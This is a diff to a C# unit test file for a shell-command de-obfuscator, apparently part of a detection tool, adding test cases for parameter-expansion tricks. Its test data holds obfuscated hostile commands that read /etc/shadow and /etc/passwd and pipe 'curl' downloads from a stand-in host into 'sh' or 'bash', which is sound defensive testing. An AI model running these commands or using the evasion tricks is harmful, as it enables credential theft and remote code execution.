@@ -31,6 +31,7 @@ namespace B64Hunt.Tests.ShellReading
         [InlineData(@"cat$IFS/etc/shadow", "cat /etc/shadow")]
         [InlineData(@"{cat,/etc/shadow}", "cat /etc/shadow")]
         [InlineData(@"{,ip,a}", "ip a")]
+        [InlineData(@"who$@ami; c$*at /etc/shadow", "whoami; cat /etc/shadow")]
         [InlineData(@"a=cu;b=rl;$a$b -s http://example.top/x.sh|sh", "a=cu;b=rl;curl -s http://example.top/x.sh|sh")]
         [InlineData(@"a=cu;b=rl;c=""$a$b"";${c} -s http://example.top/x.sh|sh", "a=cu;b=rl;c=curl;curl -s http://example.top/x.sh|sh")]
         [InlineData(@"a=cu;b=rl;eval ""$a$b -s http://example.top/x.sh|sh""", "a=cu;b=rl;eval curl -s http://example.top/x.sh|sh")]
@@ -46,6 +47,7 @@ namespace B64Hunt.Tests.ShellReading
         [InlineData(@"a=cu; echo $b")]                                       // a variable that is never assigned
         [InlineData(@"x=$(curl -s http://example.top); $x")]                 // a value the reader cannot know
         [InlineData(@"echo '$IFS' """"")]
+        [InlineData(@"f() { exec ""$@""; }; echo $@ $*x")]                  // $@ as a word, or at a word's end: the arguments
         [InlineData(@"echo '{cat,/etc/shadow}' ""{a,b}"" {a} { id; }")]     // quoted or single: not a brace list
         [InlineData(@"IFS=$'\n'; for l in $(cat /etc/passwd); do echo $l; done")]
         [InlineData("curl -s http://example.top/x.sh | bash")]
